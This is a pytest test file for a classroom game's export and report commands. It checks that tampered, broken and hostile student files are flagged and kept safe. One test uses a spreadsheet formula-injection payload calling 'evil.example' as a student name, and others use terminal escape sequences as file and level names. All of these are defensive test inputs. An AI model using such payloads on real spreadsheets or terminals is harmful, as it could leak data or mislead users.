"""`capquest export` and `capquest report`: exports round-trip, reports over several students, tampered
and broken files flagged per file, never a traceback."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import msgpack
import pytest

from capquest import classreport as report_module
from capquest.classreport import CannotReplay, NotReproducible, Problem, Replayed
from capquest.cli import main
from capquest.engine.version import ENGINE_VERSION
from capquest.saves.envelope import encode
from capquest.saves.export import read_export
from capquest.saves.model import BestRun, ExportedLevel
from capquest.saves.store import ProgressStore


class FakeReplay:
    """Stands in for the engine: a pure function of (pack, level, card, assign, seed), like the real one."""

    calls = 0

    def __init__(self, extra_packs: object = ()) -> None:
        pass

    @staticmethod
    def outcome(level_id: str, card: str | None, seed: int, assign: dict[str, str] | None = None) -> Replayed:
        key = f"{level_id}|{card}|{seed}|{sorted((assign or {}).items())}"
        value = int(hashlib.sha256(key.encode()).hexdigest()[:6], 16) % 1000
        stars = min(3, value // 250)
        return Replayed(
            score=float(value),
            digest=hashlib.sha256(key.encode()).hexdigest(),
            stars=stars,
            passed=stars >= 1,
        )

    here_version: str | None = None  # the campaign's version on the teacher's machine (None: unknown)

    def version(self, pack_id: str) -> str | None:
        return self.here_version if pack_id == "campaign" else None

    def level_order(self, pack_id: str) -> list[str]:
        return ["flash-sale", "partition", "hybrid-shop"] if pack_id == "campaign" else []

    def __call__(self, pack_id: str, level_id: str, run: BestRun) -> Replayed:
        FakeReplay.calls += 1
        if pack_id != "campaign":
            raise CannotReplay(Problem("cannot_no_pack", (("pack", pack_id),)))
        if run.card == "no-such-card":
            raise NotReproducible(Problem("check_raw", (("text", "level has no card 'no-such-card'"),)))
        return self.outcome(level_id, run.card, run.seed, run.assign)


def _honest_play(
    home: Path, plays: list[tuple[str, str | None, int, dict[str, str]]], pack: str = "campaign"
) -> None:
    store = ProgressStore(home)
    for level_id, card, seed, assign in plays:
        got = FakeReplay.outcome(level_id, card, seed, assign)
        store.record_run(pack, level_id, card, assign, seed, got.score, got.stars, got.stars >= 1, got.digest)


def _export(home: Path, name: str, out: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setenv("CAPQUEST_HOME", str(home))
    return main(["export", "--name", name, "--out", str(out)])


@pytest.fixture
def fake_engine(monkeypatch: pytest.MonkeyPatch) -> type[FakeReplay]:
    monkeypatch.setattr(report_module, "PackReplay", FakeReplay)
    monkeypatch.setattr(FakeReplay, "here_version", None)
    FakeReplay.calls = 0
    return FakeReplay


def test_export_writes_best_runs_and_never_overwrites_an_earlier_one(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _honest_play(home, [("flash-sale", "cp-lock", 1, {}), ("flash-sale", "ap-replica", 2, {}),
                        ("hybrid-shop", None, 1, {"orders": "cp-lock", "catalog": "ap-cache"})])  # fmt: skip
    assert main(["export", "--name", "김민지"]) == 0
    assert main(["export", "--name", "김민지"]) == 0
    first, second = home / "exports" / "김민지.capquest", home / "exports" / "김민지-2.capquest"
    assert "김민지.capquest" in capsys.readouterr().out
    exported = read_export(first)
    assert exported.student == "김민지"
    assert read_export(second) == exported
    levels = exported.packs["campaign"]
    assert levels["flash-sale"].attempts == 2
    best = max(
        (FakeReplay.outcome("flash-sale", c, s) for c, s in (("cp-lock", 1), ("ap-replica", 2))),
        key=lambda r: r.score,
    )
    assert levels["flash-sale"].best_run is not None and levels["flash-sale"].best_run.digest == best.digest
    hybrid = levels["hybrid-shop"].best_run
    assert (
        hybrid is not None
        and hybrid.card is None
        and hybrid.assign == {"catalog": "ap-cache", "orders": "cp-lock"}
    )


def test_export_into_a_folder(home: Path, tmp_path: Path) -> None:
    _honest_play(home, [("flash-sale", "cp-lock", 1, {})])
    assert main(["export", "--name", "Grace Hopper", "--out", str(tmp_path)]) == 0
    assert read_export(tmp_path / "Grace-Hopper.capquest").packs["campaign"]["flash-sale"].attempts == 1


def test_export_without_a_name_and_no_terminal_is_a_usage_error(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export"]) == 2
    err = capsys.readouterr().err
    assert "--name" in err and "Traceback" not in err
    assert not (home / "exports").exists()


def test_export_asks_for_the_name_on_a_terminal(
    home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(sys, "stdin", Terminal("Ada Lovelace\n"))
    out = tmp_path / "ada.capquest"
    assert main(["export", "--out", str(out)]) == 0
    assert read_export(out).student == "Ada Lovelace"


@pytest.mark.parametrize("name", ["", "   ", "tab\there", "x" * 101])
def test_export_refuses_a_bad_name(home: Path, name: str, tmp_path: Path) -> None:
    assert main(["export", "--name", name, "--out", str(tmp_path / "x.capquest")]) == 2
    assert not (tmp_path / "x.capquest").exists()


def _class(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Three students, each with their own progress, exported into one folder."""
    folder = tmp_path / "handed-in"
    plays = {
        "Alice": [
            ("flash-sale", "cp-lock", 1, {}),
            ("partition", "cp-quorum", 1, {}),
            ("partition", "ap-any", 3, {}),
        ],
        "Bob": [("flash-sale", "ap-replica", 1, {})],
        "박지훈": [("hybrid-shop", None, 2, {"orders": "cp-lock"}), ("flash-sale", "cp-lock", 1, {})],
    }
    for name, runs in plays.items():
        _honest_play(tmp_path / name, runs)
        assert _export(tmp_path / name, name, folder / f"{name}.capquest", monkeypatch) == 0
    return folder


def test_report_over_several_exports(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = _class(tmp_path, monkeypatch)
    (folder / "notes.txt").write_text("not an export: a folder scan skips it")
    out_csv = tmp_path / "class.csv"
    capsys.readouterr()

    assert main(["report", str(folder), "--csv", str(out_csv)]) == 0

    out = capsys.readouterr().out
    for name in ("Alice", "Bob", "박지훈"):
        assert name in out
    assert "Students: 3. Files read: 3, unreadable: 0. Runs that do not reproduce: 0." in out
    with open(out_csv, encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [(r["student"], r["level"]) for r in rows] == [
        ("Alice", "flash-sale"),
        ("Alice", "partition"),
        ("Bob", "flash-sale"),
        ("박지훈", "flash-sale"),
        ("박지훈", "hybrid-shop"),
    ]  # fmt: skip  (students by name, levels in the pack's order)
    alice_partition = rows[1]
    assert alice_partition["attempts"] == "2"
    best = max(
        FakeReplay.outcome("partition", "cp-quorum", 1),
        FakeReplay.outcome("partition", "ap-any", 3),
        key=lambda r: r.score,
    )
    assert float(alice_partition["best_score"]) == best.score
    assert {r["check"] for r in rows} == {"reproduced"}
    assert rows[4]["assign"] == "orders=cp-lock" and rows[4]["card"] == ""
    # the same best run (flash-sale, cp-lock, seed 1) in two students' files is simulated once
    assert fake_engine.calls == 4


def _tamper(path: Path, level: str, score: float) -> None:
    """What a student who read the format could do: change a score and recompute the checksum."""
    envelope = msgpack.unpackb(path.read_bytes())
    payload = msgpack.unpackb(envelope["payload"])
    payload["packs"]["campaign"][level]["best_score"] = score
    payload["packs"]["campaign"][level]["best_run"]["score"] = score
    payload["packs"]["campaign"][level]["stars"] = 3
    path.write_bytes(encode("export", payload))


def test_report_flags_a_tampered_export_and_lists_broken_files(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = _class(tmp_path, monkeypatch)
    _tamper(folder / "Bob.capquest", "flash-sale", 999.0)
    (folder / "truncated.capquest").write_bytes((folder / "Alice.capquest").read_bytes()[:40])
    (folder / "progress.msgpack").write_bytes(ProgressStore(tmp_path / "Alice").path.read_bytes())
    out_csv = tmp_path / "class.csv"
    capsys.readouterr()

    code = main(["report", str(folder), str(tmp_path / "missing.capquest"), "--csv", str(out_csv)])

    captured = capsys.readouterr()
    assert code == 1
    assert "Traceback" not in captured.out + captured.err
    assert "DOES NOT REPRODUCE" in captured.out
    assert "claims score 999" in captured.out
    assert "Students: 3. Files read: 3, unreadable: 3. Runs that do not reproduce: 1." in captured.out
    with open(out_csv, encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    flagged = [(r["student"], r["level"]) for r in rows if r["check"] == "mismatch"]
    assert flagged == [("Bob", "flash-sale")]
    unreadable = {Path(r["file"]).name: r["detail"] for r in rows if r["check"] == "unreadable"}
    assert set(unreadable) == {"truncated.capquest", "progress.msgpack", "missing.capquest"}
    assert unreadable["progress.msgpack"].startswith("wrong_kind")
    assert unreadable["truncated.capquest"].startswith("unreadable")


def _level(run: BestRun | None, **claims: object) -> ExportedLevel:
    """A level as an honest file holds it: the figures its best run gives, then `claims` changed."""
    got = FakeReplay.outcome("flash-sale", run.card, run.seed) if run else None
    honest = {
        "stars": got.stars if got else 0,
        "attempts": 1,
        "best_score": got.score if got else None,
        "passed": got.passed if got else False,
        "best_run": run,
    }
    return ExportedLevel(**{**honest, **claims})


def _status(level: ExportedLevel, pack: str = "campaign", **versions: str | None) -> str:
    return report_module.check_level(pack, "flash-sale", level, FakeReplay(), **versions).status


def test_claims_that_cannot_be_checked_or_cannot_be_true(
    tmp_path: Path, fake_engine: type[FakeReplay]
) -> None:
    honest = FakeReplay.outcome("flash-sale", "cp-lock", 1)
    run = BestRun(card="cp-lock", seed=1, score=honest.score, digest=honest.digest, engine=ENGINE_VERSION)
    assert _status(_level(run)) == "reproduced"
    assert _status(_level(run), pack="other-pack") == "unverified"
    assert _status(_level(run.model_copy(update={"card": "no-such-card"}))) == "mismatch"
    assert _status(_level(run.model_copy(update={"digest": "0" * 64}))) == "mismatch"
    assert _status(_level(run, stars=3 if honest.stars < 3 else 2)) == "mismatch"
    assert _status(_level(None, stars=2)) == "mismatch"
    assert _status(_level(None, passed=True)) == "mismatch"
    assert _status(_level(None, best_score=10.0)) == "mismatch"
    assert _status(_level(None)) == "no_run"


def test_every_figure_shown_is_the_re_simulated_one(fake_engine: type[FakeReplay]) -> None:
    """Issue 11 (a) and (b): a best score of 999 beside an honest best run, and "passed" on a run that
    earns no star, were shown as claimed and called reproduced."""
    zero = next(
        (seed, got)
        for seed in range(1, 500)
        if (got := FakeReplay.outcome("flash-sale", "cp-lock", seed)).stars == 0
    )
    seed, got = zero
    run = BestRun(card="cp-lock", seed=seed, score=got.score, digest=got.digest, engine=ENGINE_VERSION)
    inflated = _level(run, best_score=999.0)
    passed = _level(run, passed=True)
    for level in (inflated, passed):
        check = report_module.check_level("campaign", "flash-sale", level, FakeReplay())
        assert check.status == "mismatch"
        row = report_module.Row("Eve", Path("eve.capquest"), "campaign", "flash-sale", level, check)
        assert (row.best_score, row.stars, row.passed) == (got.score, 0, False)
        assert not row.verified
    assert "claims best score 999" in report_module.check_level(
        "campaign", "flash-sale", inflated, FakeReplay()
    ).detail("en")


def test_a_claimed_version_never_makes_a_forged_run_count(fake_engine: type[FakeReplay]) -> None:
    """Issue 11 (c): a `pack_versions` entry unlike the local one turned a forged run into "not
    checked" while its stars still counted. The version is the student's claim: such a run is
    unverified, shown as made on that version, and left out of the verified totals."""
    honest = FakeReplay.outcome("flash-sale", "cp-lock", 1)
    run = BestRun(card="cp-lock", seed=1, score=999.0, digest="0" * 64, engine=ENGINE_VERSION)
    forged = _level(run, stars=3, best_score=999.0, passed=True)
    check = report_module.check_level(
        "campaign", "flash-sale", forged, FakeReplay(), pack_version_theirs="0.9", pack_version_ours="1.0"
    )
    assert check.status == "unverified"
    assert "made on version 0.9 of the pack, unverified" in check.detail("en")
    report = report_module.ClassReport(
        rows=[report_module.Row("Eve", Path("e.capquest"), "campaign", "flash-sale", forged, check)],
        students={"Eve": [Path("e.capquest")]},
    )
    totals = report.totals("Eve", Path("e.capquest"))
    assert (totals.stars, totals.levels_passed, totals.unverified) == (0, 0, 1)
    assert report.rows[0].stars == honest.stars  # what the run gives here, not the claimed 3
    # another engine version, claimed: the same
    other_engine = forged.model_copy(update={"best_run": run.model_copy(update={"engine": 99})})
    check = report_module.check_level("campaign", "flash-sale", other_engine, FakeReplay())
    assert check.status == "unverified" and "made on engine version 99" in check.detail("en")
    # an honest run reproduces whatever version it claims
    old = BestRun(card="cp-lock", seed=1, score=honest.score, digest=honest.digest, engine=None)
    assert _status(_level(old), pack_version_theirs="0.9", pack_version_ours="1.0") == "reproduced"


def test_a_run_that_cannot_be_re_simulated_counts_for_nothing(fake_engine: type[FakeReplay]) -> None:
    run = BestRun(card="cp", seed=1, score=900.0, digest="a" * 64, engine=ENGINE_VERSION)
    level = ExportedLevel(stars=3, attempts=4, best_score=900.0, passed=True, best_run=run)
    check = report_module.check_level("unknown-pack", "x", level, FakeReplay())
    assert check.status == "unverified" and "not installed" in check.detail("en")
    row = report_module.Row("Eve", Path("e.capquest"), "unknown-pack", "x", level, check)
    report = report_module.ClassReport(rows=[row], students={"Eve": [Path("e.capquest")]})
    totals = report.totals("Eve", Path("e.capquest"))
    assert (totals.stars, totals.levels_passed, totals.attempts, totals.unverified) == (0, 0, 4, 1)


def test_report_with_nothing_to_read_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "empty").mkdir()
    assert main(["report", str(tmp_path / "empty")]) == 2
    assert "no export files" in capsys.readouterr().err


def test_report_and_export_are_headless(tmp_path: Path) -> None:
    folder = tmp_path / "handed-in"
    folder.mkdir()
    (folder / "junk.capquest").write_bytes(b"junk")  # the report's whole path, with no simulation to wait for
    code = (
        "import sys; from capquest.cli import main; main(['report', sys.argv[1]]);"
        "main(['export', '--name', 'x', '--out', sys.argv[2]]);"
        "assert 'textual' not in sys.modules, 'textual imported'"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(folder), str(tmp_path / "x.capquest")],
        capture_output=True,
        text=True,
        env={**__import__("os").environ, "CAPQUEST_HOME": str(tmp_path / "h")},
    )
    assert done.returncode == 0, done.stderr


def test_hostile_export_is_refused_not_printed(
    tmp_path: Path, fake_engine: type[FakeReplay], capsys: pytest.CaptureFixture[str]
) -> None:
    run = {"card": "cp", "assign": {}, "seed": 1, "score": 1.0, "digest": "x"}
    level = {"stars": 1, "attempts": 1, "best_score": 1.0, "passed": True, "best_run": run}
    escape = tmp_path / "escape.capquest"
    escape.write_bytes(
        encode(
            "export", {"student": "Eve", "app_version": "0.1.0", "packs": {"campaign": {"\x1b[2J": level}}}
        )
    )
    huge = tmp_path / "huge.capquest"
    many = {f"l{n}": level for n in range(501)}
    huge.write_bytes(
        encode("export", {"student": "Mallory", "app_version": "0.1.0", "packs": {"campaign": many}})
    )

    assert main(["report", str(escape), str(huge)]) == 1
    out = capsys.readouterr().out
    assert "\x1b[2J" not in out and "Eve" not in out.split("escape.capquest")[0]
    assert "escape.capquest" in out and "huge.capquest" in out
    assert fake_engine.calls == 0


def test_pack_replay_finds_the_level_and_calls_the_play_path(monkeypatch: pytest.MonkeyPatch) -> None:
    from types import SimpleNamespace

    class StrategyError(ValueError):
        pass

    # A stand-in for capquest.play (level + card + seed -> result), whatever state the engine is in.
    play = SimpleNamespace(StrategyError=StrategyError)
    monkeypatch.setitem(sys.modules, "capquest.play", play)
    monkeypatch.setattr(__import__("capquest"), "play", play, raising=False)

    level = SimpleNamespace(id="flash-sale")
    pack = SimpleNamespace(
        manifest=SimpleNamespace(id="my-pack"), levels=[SimpleNamespace(id="intro"), level]
    )
    calls: list[tuple] = []

    def fake_run(lv: object, card: str | None, *, seed: int, assign: dict | None = None) -> object:
        calls.append((lv, card, seed, assign))
        if card == "missing":
            raise play.StrategyError("level 'flash-sale' has no card 'missing'")
        if card == "crash":
            raise RuntimeError("engine bug")
        return SimpleNamespace(
            score=SimpleNamespace(score=512.0, stars=1, passed=True), outcome=SimpleNamespace(digest="f" * 64)
        )

    play.run = fake_run
    replay = report_module.PackReplay(extra_packs=[pack])
    run = BestRun(card="cp-lock", assign={"orders": "cp-lock"}, seed=9, score=512.0, digest="f" * 64)

    assert replay("my-pack", "flash-sale", run) == Replayed(512.0, "f" * 64, 1, True)
    assert calls == [(level, "cp-lock", 9, {"orders": "cp-lock"})]
    assert replay.level_order("my-pack") == ["intro", "flash-sale"]
    with pytest.raises(NotReproducible):
        replay("my-pack", "flash-sale", run.model_copy(update={"card": "missing"}))
    with pytest.raises(CannotReplay, match="engine bug"):
        replay("my-pack", "flash-sale", run.model_copy(update={"card": "crash"}))
    with pytest.raises(CannotReplay, match="no level"):
        replay("my-pack", "gone", run)
    with pytest.raises(CannotReplay):
        replay("not-installed", "flash-sale", run)


def test_report_speaks_korean(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = _class(tmp_path, monkeypatch)
    _tamper(folder / "Bob.capquest", "flash-sale", 999.0)
    capsys.readouterr()
    assert main(["report", str(folder), "--lang", "ko"]) == 1
    out = capsys.readouterr().out
    assert "학급 보고서" in out and "재현되지 않음" in out
    assert "학생 3명, 읽은 파일 3개, 읽지 못한 파일 0개, 재현되지 않는 기록 1개." in out
    assert "주장한 점수 999, 다시 실행하면" in out


def test_a_run_that_fails_on_another_pack_version_accuses_no_one(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = _class(tmp_path, monkeypatch)
    _tamper(folder / "Bob.capquest", "flash-sale", 999.0)  # stands for a pack whose scoring changed since
    assert read_export(folder / "Bob.capquest").pack_versions.get("campaign")  # recorded at export
    monkeypatch.setattr(FakeReplay, "here_version", "99.0")
    out_csv = tmp_path / "class.csv"
    capsys.readouterr()

    assert main(["report", str(folder), "--csv", str(out_csv)]) == 0

    with open(out_csv, encoding="utf-8-sig") as f:
        bob = next(r for r in csv.DictReader(f) if r["student"] == "Bob")
    assert bob["check"] == "unverified"
    assert "checked on version 99.0" in bob["detail"] and "claims score 999" in bob["detail"]


def test_a_formula_as_a_students_name_stays_text_in_the_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_engine: type[FakeReplay]
) -> None:
    """Issue 11: a student named `=HYPERLINK(...)` landed in --csv as a formula."""
    _honest_play(tmp_path / "eve", [("flash-sale", "cp-lock", 1, {})])
    folder = tmp_path / "class"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert _export(tmp_path / "eve", formula, folder / "eve.capquest", monkeypatch) == 0
    out_csv = tmp_path / "class.csv"
    assert main(["report", str(folder), "--csv", str(out_csv)]) == 0
    with open(out_csv, encoding="utf-8-sig") as f:
        (row,) = list(csv.DictReader(f))
    assert row["student"] == "'" + formula
    from capquest.cli.report import csv_cell

    assert [csv_cell(v) for v in ("+1", "-x", "@SUM(A1)", "\tx", "Ada", -12.5)] == [
        "'+1", "'-x", "'@SUM(A1)", "'\tx", "Ada", -12.5,
    ]  # fmt: skip


def test_the_csv_never_overwrites_an_export_it_reads(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = _class(tmp_path, monkeypatch)
    bob = folder / "Bob.capquest"
    before = bob.read_bytes()
    for args in ([str(bob), "--csv", str(bob)], [str(folder), "--csv", str(bob)]):
        capsys.readouterr()
        assert main(["report", *args]) == 2
        assert "one of the files being read" in capsys.readouterr().err
        assert bob.read_bytes() == before


def test_a_file_name_with_escape_codes_is_printed_escaped(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_engine: type[FakeReplay],
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Issue 11: `report` printed a student's file name raw."""
    folder = _class(tmp_path, monkeypatch)
    (folder / "Bob.capquest").rename(folder / "\x1b]0;PWNED\x07.capquest")
    (folder / "\x1b[2Jbroken.capquest").write_bytes(b"junk")
    capsys.readouterr()
    main(["report", str(folder)])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2Jbroken.capquest" in out


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_pipe_handed_to_report_is_listed_not_read(
    tmp_path: Path, fake_engine: type[FakeReplay], capsys: pytest.CaptureFixture[str]
) -> None:
    pipe = tmp_path / "pipe.capquest"
    os.mkfifo(pipe)  # reading it waited forever for a writer
    assert main(["report", str(pipe)]) == 1
    assert "not a regular file" in capsys.readouterr().out
